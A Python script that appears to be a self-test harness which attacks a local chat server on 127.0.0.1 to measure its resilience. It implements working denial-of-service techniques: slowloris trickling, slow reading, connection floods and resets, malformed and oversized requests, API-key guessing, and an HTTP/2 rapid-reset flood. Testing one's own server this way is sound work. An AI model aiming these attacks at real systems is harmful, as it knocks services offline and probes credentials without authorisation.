"""
An attack on a server of this machine, from a process of its own that gets the processor when nobody else wants it (`nice=0`: as others do):
attacker.py KIND PORT SECONDS [NAME=VALUE]... - the classes are the kinds (MODULE.KIND: those of another module), the values
say how much. It says "ready" once all is open, stops when its input ends or after SECONDS, and prints what it met as JSON. Plain
sockets and bytes made beforehand: what an attack costs shall be the server's cost.
"""
import importlib
import json
import os
import resource
import select
import socket
import ssl
import struct
import sys
import time

HOST = '127.0.0.1'  # never anybody else
RST = struct.pack('ii', 1, 0)
IP_BIND_ADDRESS_NO_PORT = 24  # Python 3.11 has no name for it
TICK = 0.02  # seconds; work is spread over such steps


def step_back(nice):
    """Last in the queue for the processor, also where Linux shares it by sessions before it looks at niceness."""
    os.setsid()
    os.nice(nice)
    try:
        with open('/proc/self/autogroup', 'w') as file:
            file.write(str(nice))
    except OSError:
        pass


def post(path, body, headers='', length=None):
    return ('POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n%sContent-Length: %d\r\n\r\n'
            % (path, headers, len(body) if length is None else length)).encode() + body


class Attack:
    """One kind, over sockets that one epoll watches. Subclasses say what a socket is for."""

    addresses = 100

    def __init__(self, port, seconds, **much):
        self.port, self.much = port, much
        self.end = time.monotonic() + seconds
        self.poll = select.epoll()
        self.poll.register(0, select.EPOLLIN)
        self.links = {}   # sockets by descriptor
        self.unsent = {}  # what each has still to say first
        self.met = {}
        self.made = 0
        self.stopped = False

    def note(self, what, count=1):
        self.met[what] = self.met.get(what, 0) + count

    def connect(self, options):
        """From one of many addresses; the kernel says later whether it came to be."""
        link = socket.socket()
        link.setblocking(False)
        for option in options:
            link.setsockopt(*option)
        # Not the port: the kernel finds one per address and destination, so there are enough for all.
        link.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        link.bind(('127.0.%d.%d' % (2 + self.made // 250 % max(self.addresses // 250, 1),
                                    1 + self.made % min(self.addresses, 250)), 0))
        link.connect_ex((HOST, self.port))
        return link

    def open(self, first=b'', options=(), events=select.EPOLLIN):
        """A connection on which `first` is sent as soon as it is there."""
        link = self.connect(options)
        self.made += 1
        self.links[link.fileno()] = link
        self.poll.register(link.fileno(), events | select.EPOLLOUT)
        self.unsent[link] = first
        return link

    def close(self, link):
        self.links.pop(link.fileno(), None)
        self.unsent.pop(link, None)
        link.close()

    def on_event(self, link, events):
        """A first piece goes out as soon as the connection is there; what comes back is counted."""
        if events & select.EPOLLOUT:
            first = self.unsent[link]
            try:
                sent = link.send(first) if first else 0
            except BlockingIOError:
                sent = 0
            self.unsent[link] = first[sent:]
            if not self.unsent[link]:
                self.poll.modify(link.fileno(), select.EPOLLIN)
                self.on_sent(link)
        if events & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR) and link.fileno() >= 0:
            self.on_input(link, link.recv(65536))

    def on_sent(self, link):
        pass

    def on_input(self, link, data):
        if data[:5] == b'HTTP/':
            self.note(data[9:12].decode())
        if not data:
            self.lost(link)

    def lost(self, link):
        """nginx closed it: another takes its place."""
        self.note('closed')
        self.close(link)
        self.replace()

    def replace(self):
        pass

    def turn(self, seconds):
        for fd, events in self.poll.poll(seconds, 256):
            if fd == 0:
                self.stopped = True
                return
            link = self.links.get(fd)
            if link is None:
                continue
            try:
                self.on_event(link, events)
            except BlockingIOError:
                pass
            except OSError as error:
                self.note(type(error).__name__)
                self.close(link)
                self.replace()
        self.stopped = self.stopped or time.monotonic() > self.end

    def ready(self):
        """All has been opened, and said what it has to say first."""
        return not any(self.unsent.values())

    def tick(self, number):
        pass

    def share(self, number):
        """Whose turn it is in this step: everyone's once a second."""
        steps = round(1 / TICK)
        return [link for fd, link in self.links.items() if fd % steps == number % steps]

    def run(self):
        self.start()
        while not self.ready() and not self.stopped:
            self.turn(TICK)
        print('ready', flush=True)
        began, number = time.monotonic(), 0
        while not self.stopped:
            self.tick(number)
            number += 1
            pause = began + number * TICK - time.monotonic()
            while pause > 0 and not self.stopped:
                self.turn(pause)
                pause = began + number * TICK - time.monotonic()
            if pause <= 0:
                self.turn(0)
        self.note('open at the end', len(self.links))
        print(json.dumps(self.met), flush=True)


class Trickle(Attack):
    """`count` connections that send a byte of `what` (header, body) each second, and are opened again when they are cut."""

    def start(self):
        self.first = {'header': b'POST /chat HTTP/1.1\r\nHost: x\r\nX-Slow: ',
                      'body': post('/chat', b'{"message": "', length=4000)}[self.much['what']]
        for _ in range(self.much['count']):
            self.open(self.first)
            if self.made % 64 == 0:
                self.turn(0)

    def replace(self):
        if self.much.get('again', 1):
            self.open(self.first)

    def tick(self, number):
        for link in self.share(number):
            try:
                link.send(b'a')
            except OSError:
                pass


class Reader(Attack):
    """`count` streams and whole answers in turn, of `bytes` each, that are read a byte each second once they have begun."""

    def start(self):
        self.begun = 0
        for number in range(self.much['count']):
            text = '%s sim:%s' % (number, json.dumps({'answer_bytes': self.much['bytes'], 'chunks': 50}))
            self.open(post('/chat/stream' if number % 2 else '/chat', json.dumps({'message': text}).encode(), self.much['key']),
                      [(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)])

    def on_input(self, link, data):
        super().on_input(link, data)
        self.begun += 1
        if data:
            self.poll.modify(link.fileno(), 0)

    def ready(self):
        return self.begun >= self.much['count']

    def tick(self, number):
        for link in self.share(number):
            try:
                self.note('bytes', len(link.recv(1)))
            except OSError:
                pass


class Idle(Attack):
    """`count` connections: a third silent, a third in the middle of a header, a third kept after a request. `tls`: so many more
    over HTTPS at port `tls_port`."""

    addresses = 1000

    def start(self):
        for number in range(self.much['count']):
            self.open([b'', b'GET / HTTP/1.1\r\nHos', b'GET / HTTP/1.1\r\nHost: x\r\n%s\r\n'][number % 3]
                      .replace(b'%s', self.much['key'].encode()))
            if number % 16 == 0:
                self.turn(0)
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        self.secure = []
        for number in range(self.much['tls']):
            link = socket.create_connection((HOST, self.much['tls_port']), 20, ('127.0.9.%d' % (1 + number % 200), 0))
            self.secure.append(context.wrap_socket(link))
            self.note('handshakes')
            self.turn(0)


def chunked(body, headers):
    pieces = [body[at:at + 65536] for at in range(0, len(body), 65536)]
    return (b'POST /chat HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n'
            + headers.encode() + b'\r\n' + b''.join(b'%x\r\n%s\r\n' % (len(piece), piece) for piece in pieces) + b'0\r\n\r\n')


class Bodies(Attack):
    """
    `count` bodies of `bytes` each at once, over a line of `rate` bytes a second that they share. `how`, one or several with
    + between: good, broken (not JSON), stranger (without the key), chunked, short (half of it, then silence), long (more than
    was said). Until all are `done`; what is short never is.
    """

    def start(self):
        size, key = self.much['bytes'], self.much['key']
        body = b'{"message": "hi", "ignored": "' + b'a' * (size - 32) + b'"}'
        self.kinds = {'good': lambda: post('/chat', body, key), 'broken': lambda: post('/chat', body[:-1], key),
                      'stranger': lambda: post('/chat', body), 'chunked': lambda: chunked(body, key),
                      'short': lambda: post('/chat', body[:size // 2], key, size),
                      'long': lambda: post('/chat', body, key, size // 2)}
        firsts = [memoryview(self.kinds[how]()) for how in self.much['how'].split('+')]
        for number in range(self.much['count']):
            self.open(firsts[number % len(firsts)], events=0)
        self.budget = 0

    def open(self, first, events):
        link = super().open(first, events=events)
        self.poll.modify(link.fileno(), select.EPOLLIN)

    def ready(self):
        return True

    def tick(self, number):
        """Everyone in turn sends a piece, as long as the line has room."""
        self.budget = min(self.budget + int(self.much['rate'] * TICK), int(self.much['rate'] * TICK * 5))
        sending = [link for link, first in self.unsent.items() if first]
        sending = sending[number % len(sending):] + sending[:number % len(sending)] if sending else []
        while sending and self.budget > 0:
            for link in sending[:]:
                first = self.unsent[link]
                try:
                    sent = link.send(first[:32768])
                except BlockingIOError:
                    sent = 0
                except OSError as error:
                    self.note(type(error).__name__)
                    self.close(link)
                    sent = 0
                if not sent:
                    sending.remove(link)
                    continue
                self.note('bytes', sent)
                self.budget -= sent
                self.unsent[link] = first[sent:]
                if not self.unsent[link]:
                    sending.remove(link)
                if self.budget <= 0:
                    break

    def on_input(self, link, data):
        """What comes back is the answer, and that is the end."""
        self.note(data[9:12].decode() if data[:5] == b'HTTP/' else 'closed')
        self.close(link)
        if not self.links:
            self.stopped = True


class Rate(Attack):
    """`rate` pieces a second, `pieces` long over `count` kept connections from `addresses` addresses."""

    def start(self):
        self.addresses = self.much.get('addresses', 100)
        self.body = json.dumps({'message': 'hi'}).encode()
        self.due = 0
        for _ in range(self.much['count']):
            self.replace()

    def replace(self):
        self.open()

    def tick(self, number):
        want = int((number + 1) * TICK * self.much['rate'])
        links = list(self.links.values())
        while self.due < want:
            self.due += 1
            if not links:
                return
            self.shoot(links[self.due % len(links)])

    def send(self, link, data):
        try:
            sent = link.send(data)
        except OSError:
            self.note('not sent')
            return
        if sent < len(data):  # half a request: this connection is of no use any more
            self.note('not sent')
            self.close(link)
            self.replace()

    def on_input(self, link, data):
        at = data.find(b'HTTP/1.1 ')
        while at >= 0:
            self.note(data[at + 9:at + 12].decode())
            at = data.find(b'HTTP/1.1 ', at + 9)
        if not data:
            self.lost(link)


class Chats(Rate):
    """Messages."""

    def shoot(self, link):
        self.send(link, post('/chat', self.body))


class Streams(Attack):
    """`count` streams of `chunks`, ten a second; each that ends is followed by another."""

    def start(self):
        text = 'stream sim:%s' % json.dumps({'answer_bytes': 20 * self.much['chunks'], 'chunks': self.much['chunks'], 'gap_ms': 100})
        self.first = post('/chat/stream', json.dumps({'message': text}).encode(), 'Connection: close\r\n')
        self.begun = set()
        for _ in range(self.much['count']):
            self.replace()

    def replace(self):
        self.open(self.first)

    def on_input(self, link, data):
        if data[:5] == b'HTTP/':
            self.note(data[9:12].decode())
            if data[9:12] == b'200':
                self.begun.add(link)
        if not data:
            self.lost(link)

    def lost(self, link):
        self.begun.discard(link)
        super().lost(link)

    def ready(self):
        return len(self.begun) >= self.much['count']


class Guess(Rate):
    """Wrong keys."""

    def shoot(self, link):
        key = 'X-API-Key: guess-%06d\r\n' % self.due if self.due % 2 else 'Authorization: Bearer %06d\r\n' % self.due
        self.send(link, post('/chat', self.body, key))


class Fat(Rate):
    """Headers beyond every limit."""

    request = b'GET / HTTP/1.1\r\nHost: x\r\n' + b'X-Fat: %s\r\n' % (b'a' * 7000) * 6

    def shoot(self, link):
        self.send(link, self.request)


class Pipeline(Rate):
    """A hundred requests in one piece."""

    request = b'GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n' * 100

    def shoot(self, link):
        self.send(link, self.request)


class Churn(Attack):
    """`rate` connections a second that are closed, or reset, at once."""

    due = 0

    def start(self):
        pass

    def tick(self, number):
        want = int((number + 1) * TICK * self.much['rate'])
        while self.due < want:
            self.due += 1
            with socket.socket() as link:
                link.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
                link.bind(('127.0.2.%d' % (1 + self.due % 200), 0))
                # A reset leaves no port behind; thousands of others would have to wait for theirs.
                link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RST)
                try:
                    link.connect((HOST, self.port))
                    if self.due % 2:
                        link.shutdown(socket.SHUT_WR)
                    self.note('connections')
                except OSError as error:
                    self.note(type(error).__name__)


def frame(kind, flags, stream, content):
    return struct.pack('>I', len(content))[1:] + struct.pack('>BBI', kind, flags, stream) + content


class Reset(Attack):
    """Requests over HTTP/2 that are cancelled at once (CVE-2023-44487): `rate` a second over `count` connections."""

    due = 0
    # :method POST, :scheme https, :path / as literals of the static table; :authority x. RFC 7541, appendix A.
    head = b'\x83\x87\x44\x05/chat\x41\x01x'

    def start(self):
        self.context = ssl.create_default_context()
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.context.set_alpn_protocols(['h2'])
        self.secure = [self.connect(number) for number in range(self.much['count'])]

    def connect(self, number):
        link = socket.create_connection((HOST, self.port), 20, ('127.0.2.%d' % (1 + number), 0))
        link = self.context.wrap_socket(link)
        link.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b''))
        link.settimeout(0)
        self.note('connections')
        return [link, 1]

    def is_over(self, link):
        """Whether the server has closed the connection; what it said before is of no interest."""
        try:
            while link.recv(65536):
                pass
            return True
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return False

    def tick(self, number):
        want = int((number + 1) * TICK * self.much['rate'])
        share = (want - self.due) // len(self.secure)
        for at, (link, stream) in enumerate(self.secure):
            data = b''.join(frame(1, 4, stream + 2 * k, self.head) + frame(3, 0, stream + 2 * k, b'\0\0\0\x08')
                            for k in range(share))
            try:
                link.sendall(data)
                self.secure[at][1] += 2 * share
                self.due += share
                self.note('requests', share)
                gone = self.is_over(link)
            except ssl.SSLWantWriteError:
                self.note('full')
                gone = True
            except OSError as error:
                self.note(type(error).__name__)
                gone = True
            if gone:
                link.close()
                self.secure[at] = self.connect(at)


def main(kind, port, seconds, *much):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    values = dict(word.split('=', 1) for word in much)
    values = {name: int(value) if value.isdigit() else value.replace('\\r\\n', '\r\n') for name, value in values.items()}
    step_back(values.pop('nice', 19))
    module, _, kind = kind.rpartition('.')
    kinds = vars(importlib.import_module(module)) if module else globals()
    kinds[kind](int(port), float(seconds), **values).run()


if __name__ == '__main__':
    main(*sys.argv[1:])
